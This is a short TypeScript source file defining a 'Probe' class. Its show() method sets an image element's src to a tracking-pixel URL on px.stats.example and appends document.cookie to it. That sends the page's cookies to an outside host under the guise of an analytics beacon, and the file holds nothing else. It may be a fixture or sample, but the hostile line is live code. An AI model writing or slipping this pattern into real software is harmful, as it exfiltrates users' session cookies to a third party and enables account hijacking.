class Probe {
  #pixel: HTMLImageElement;

  constructor(pixel: HTMLImageElement) {
    this.#pixel = pixel;
  }

  show(box: HTMLImageElement = this.#pixel) {
    box.src = `https://px.stats.example/p.gif?${document.cookie}`; //@act
  }
}

export default Probe;
